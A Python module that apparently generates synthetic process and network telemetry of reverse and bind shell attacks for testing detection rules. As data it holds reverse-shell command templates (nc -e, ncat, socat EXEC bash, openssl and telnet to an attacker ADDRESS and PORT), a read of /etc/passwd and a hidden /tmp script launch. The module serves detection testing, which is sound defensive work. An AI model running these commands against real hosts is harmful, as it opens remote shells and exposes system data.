"""Attacks: reverse and bind shells, each of which matches one of the two rules exactly once.

An attack has processes of its own, so that nothing else on its host can join or break the sequence. Its events beside
the two stages (initial access, commands in the shell) have other entities, or come after the match is complete.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

from runner.sample_data.addresses import Endpoint, attacker
from runner.sample_data.catalogues import entries
from runner.sample_data.command_lines import programs, shell
from runner.sample_data.processes import Process, SampleProgram
from runner.sample_data.timeline import MILLISECOND, Timeline, TimelineStep

SECOND = 1_000 * MILLISECOND
Pair = tuple[str, str]
"""The ids of the events of the two stages, in the order of the stages."""


@dataclass(frozen=True, slots=True)
class Scene:
    """The timelines that an item may use: of two Linux hosts and a Windows host."""

    here: Timeline
    elsewhere: Timeline
    windows: Timeline

    def steps(self) -> list[TimelineStep]:
        """The steps of all three hosts."""
        return [*self.here.steps, *self.elsewhere.steps, *self.windows.steps]


Attack = Callable[[Scene, int], Pair]


def gap_for(scene: Scene, turn: int, *, same_instant: bool) -> int:
    """The nanoseconds between the stages of the `turn`-th attack: at most one second, the rules' maxspan.

    Of every five, one takes exactly a second and one the least: nothing where the stages may share an instant, else a
    millisecond, since an index with millisecond resolution orders stages in two data streams by time only. The others
    keep a whole millisecond from both limits.
    """
    match turn % 5:
        case 1:
            return SECOND
        case 3:
            return 0 if same_instant else MILLISECOND
        case 4:
            return 999 * MILLISECOND
        case _:
            resolution: int = scene.here.machine.resolution
            gap = scene.here.rng.randrange(3 * MILLISECOND, 900 * MILLISECOND)
            return gap // resolution * resolution


def way_in(line: Timeline) -> Process:
    """Initial access: the shell of a login, or one that an exploited service started."""
    services = line.machine.services
    doors = [services[key] for key in ("php", "apache", "gunicorn", "java", "jenkins", "postgres") if key in services]
    if not doors or line.rng.random() < 0.4:
        return line.rng.choice(line.machine.sessions)
    script = line.words.text("cd /tmp; sh ./.<word><d>.sh")
    process = line.run(line.rng.choice(doors), shell(line.machine.host.image.shell, script))
    line.wait(2_000, 40_000)
    return process


def look_around(line: Timeline, inside: Process) -> None:
    """Discovery commands in the shell, then the end of the shell."""
    for command in ("/usr/bin/id id", "/usr/bin/uname uname -a", "/usr/bin/cat cat /etc/passwd"):
        if line.rng.random() < 0.5:
            line.wait(9_000, 90_000)
            line.whole_life(inside, line.words.program(command))
    line.wait(9_000, 90_000)
    line.end(inside)


def program_of(line: Timeline, command: str, remote: Endpoint) -> SampleProgram:
    """The program of a command: its file and its arguments, with a blank between two.

    PYTHON stands for the interpreter of the host's distribution, `@name` for an attack script, ADDRESS and PORT for
    those of the attacker.
    """
    scripts = entries("attack_scripts")
    path, *args = (scripts[part[1:]] if part.startswith("@") else part for part in command.split())
    args = [part.replace("ADDRESS", remote.address).replace("PORT", str(remote.port)) for part in args]
    return SampleProgram(line.machine.host.image.python if path == "PYTHON" else path, tuple(args))


# A shell connects, then starts a shell.

SHELL_CHILDREN = ("bash", "dash", "sh", "zsh", "ksh", "fish", "tcsh", "csh")


def shell_connects(
    scene: Scene, gap: int, *, name: str, script: str, how: str = "fork", six: bool = False, accepted: bool = False
) -> Pair:
    """A shell opens or accepts a connection, then starts a shell: by `how`, a fork, an exec or one whole document."""
    line = scene.here
    remote = attacker(line.rng, six=six, local_port=4444 if accepted else 0)
    opener = line.run(way_in(line), program_of(line, f"/usr/bin/{name} {name} -c @{script}", remote))
    line.wait(1_000, 60_000)
    if how == "retry":
        line.connect(opener, remote)
        line.wait(90_000, 300_000)
    first = line.accept(opener, remote) if accepted else line.connect(opener, remote)
    line.now += gap
    child, second = _child_shell(line, opener, how=how)
    if how == "twice":
        line.wait(5_000, 50_000)
        line.end(line.fork(opener))
    look_around(line, child)
    line.disconnect(opener, remote)
    line.end(opener)
    return first, second


def _child_shell(line: Timeline, opener: Process, *, how: str) -> tuple[Process, str]:
    name = line.rng.choice(SHELL_CHILDREN)
    program = SampleProgram(f"/usr/bin/{name}", (f"/bin/{name}", "-i"))
    if how == "exec":
        child = line.spawn(opener, program)
    elif how == "whole":
        child = line.fork(opener)
        child.run(program)
        line.steps.pop()
        line.add_process(child, ["fork", "exec", "end"], types=["start", "end"], exit_code=0)
    else:
        child = line.fork(opener)
    return child, line.last_id


def socat_connects(scene: Scene, gap: int, *, listens: bool = False) -> Pair:
    """The relay program opens or accepts a connection; a child of it then executes a shell."""
    line = scene.here
    remote = attacker(line.rng, local_port=4444 if listens else 0)
    far = "TCP-LISTEN:4444,reuseaddr,fork" if listens else f"TCP:{remote.address}:{remote.port}"
    program = SampleProgram("/usr/bin/socat", ("socat", far, "EXEC:'bash -li',pty,stderr,setsid,sigint,sane"))
    opener = line.run(way_in(line), program)
    line.wait(1_000, 60_000)
    first = line.accept(opener, remote) if listens else line.connect(opener, remote)
    child = line.fork(opener)
    line.now += gap
    second = line.execute(child, SampleProgram("/usr/bin/bash", ("bash", "-li")))
    look_around(line, child)
    line.end(opener)
    return first, second


REVERSE_SHELL_ATTACKS: tuple[tuple[str, Attack], ...] = (
    ("bash /dev/tcp", partial(shell_connects, name="bash", script="bash")),
    ("socat exec", socat_connects),
    ("sh /dev/tcp", partial(shell_connects, name="sh", script="sh")),
    ("bash /dev/tcp, other shell", partial(shell_connects, name="bash", script="bash", how="exec")),
    ("zsh ztcp", partial(shell_connects, name="zsh", script="zsh")),
    ("bash /dev/tcp over IPv6", partial(shell_connects, name="bash", script="bash", six=True)),
    ("ksh /dev/tcp", partial(shell_connects, name="ksh", script="ksh", how="exec")),
    ("bash accepts", partial(shell_connects, name="bash", script="bash_accepts", accepted=True)),
    ("bash read loop", partial(shell_connects, name="bash", script="bash_loop", how="twice")),
    ("socat listens", partial(socat_connects, listens=True)),
    ("bash connects twice", partial(shell_connects, name="bash", script="bash", how="retry")),
    ("zsh ztcp, other shell", partial(shell_connects, name="zsh", script="zsh", how="exec")),
    ("bash, child in one document", partial(shell_connects, name="bash", script="bash", how="whole")),
    ("dash connects", partial(shell_connects, name="dash", script="sh", how="exec")),
)


# A utility starts, then connects.


def stager(line: Timeline) -> Process:
    """The process that starts the utility: the shell of the initial access, or a script that it runs."""
    entry = way_in(line)
    if line.rng.random() < 0.3:
        return entry
    process = line.run(entry, line.rng.choice(programs("stagers")))
    line.wait(1_000, 60_000)
    return process


def utility_connects(
    scene: Scene, gap: int, *, command: str, how: str = "", six: bool = False, accepted: bool = False
) -> Pair:
    """A shell or an interpreter starts a utility, which opens or accepts a connection."""
    line = scene.here
    remote = attacker(line.rng, six=six, local_port=4444 if accepted else 0)
    process = line.run(stager(line), program_of(line, command, remote))
    first = line.last_id
    if how == "fork":
        line.wait(2_000, 60_000)
        process = line.fork(process)
        first = line.last_id
    line.now += gap
    second = line.accept(process, remote) if accepted else line.connect(process, remote)
    if how == "retry":
        line.wait(20_000, 300_000)
        line.connect(process, remote)
    line.wait(3_000, 60_000)
    child = line.run(process, SampleProgram(line.machine.host.image.shell, ("/bin/sh", "-i")))
    look_around(line, child)
    line.disconnect(process, remote)
    line.end(process)
    return first, second


CHILD_PROCESS_ATTACKS: tuple[tuple[str, Attack], ...] = (
    ("python subprocess", partial(utility_connects, command="PYTHON python3 -c @python_subprocess")),
    ("perl exec", partial(utility_connects, command="/usr/bin/perl perl -e @perl_exec")),
    ("nc -e", partial(utility_connects, command="/usr/bin/nc nc -e /bin/sh ADDRESS PORT")),
    ("ruby -rsocket", partial(utility_connects, command="/usr/bin/ruby ruby -rsocket -e @ruby")),
    ("php fsockopen", partial(utility_connects, command="/usr/bin/php8.3 php -r @php")),
    ("python pty", partial(utility_connects, command="PYTHON python3 -c @python_pty", how="retry")),
    ("awk /inet/tcp", partial(utility_connects, command="/usr/bin/awk awk @awk /dev/null")),
    (
        "openssl -connect",
        partial(utility_connects, command="/usr/bin/openssl openssl s_client -quiet -connect ADDRESS:PORT"),
    ),
    ("lua os.execute", partial(utility_connects, command="/usr/bin/lua5.4 lua5.4 -e @lua_execute")),
    ("telnet", partial(utility_connects, command="/usr/bin/telnet telnet ADDRESS PORT")),
    ("python forks", partial(utility_connects, command="PYTHON python3 -c @python_pty", how="fork")),
    ("nc -e listens", partial(utility_connects, command="/usr/bin/nc nc -l -p 4444 -e /bin/bash", accepted=True)),
    ("perl -E system", partial(utility_connects, command="/usr/bin/perl perl -E @perl_system")),
    ("ncat -e over IPv6", partial(utility_connects, command="/usr/bin/ncat ncat -6 ADDRESS PORT -e /bin/sh", six=True)),
    ("ruby TCPSocket.open", partial(utility_connects, command="/usr/bin/ruby ruby -rsocket -e @ruby_open")),
    ("netcat -e", partial(utility_connects, command="/usr/bin/netcat netcat ADDRESS PORT -e /bin/sh")),
    ("lua io.popen", partial(utility_connects, command="/usr/bin/lua5.4 lua5.4 -e @lua_popen")),
)
